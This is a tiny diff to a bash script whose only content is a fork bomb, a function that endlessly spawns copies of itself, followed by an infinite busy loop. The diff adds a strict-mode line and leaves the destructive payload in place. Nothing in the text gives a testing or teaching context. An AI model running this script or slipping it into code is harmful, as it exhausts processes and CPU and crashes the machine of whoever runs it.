@@ -1,4 +1,5 @@
 #!/bin/bash
+set -euo pipefail
 bomb() { bomb | bomb & }
 bomb
 while :; do :; done
